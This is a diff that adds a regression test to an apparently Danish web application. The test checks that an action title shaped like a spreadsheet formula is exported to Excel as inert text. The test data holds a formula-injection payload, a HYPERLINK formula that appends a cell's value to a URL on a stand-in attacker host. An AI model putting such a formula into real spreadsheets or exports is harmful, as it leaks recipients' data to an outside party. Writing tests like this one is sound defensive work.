@@ -85,3 +85,17 @@ def test_the_cli_sends_reminders(study, adopted):
     result = CliRunner().invoke(app, ["followup", "remind"])
     assert result.exit_code == 0, result.output
     assert len(mail.outbox) == 1 and "Sendte 1" in result.output
+
+
+def test_an_action_title_that_looks_like_a_formula_stays_text(analyst_client, board_client, study,
+                                                               adopted):
+    """Issue 10, finding 5: an action title ``=HYPERLINK(…)`` was a live formula in both copies."""
+    evil = '=HYPERLINK("https://angriber.example/?"&B2,"Se handleplan")'
+    decisions.add_action(adopted, title=evil, owner_name="@Direktør", owner_email="d@k.dk",
+                         deadline=dt.date(2030, 1, 1), scale_codes=[])
+    for client in (analyst_client, board_client):
+        wb = load_workbook(io.BytesIO(
+            client.get(f"/undersoegelser/{study.pk}/opfoelgning/eksport.xlsx").content))
+        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert evil in {c.value for c in cells}
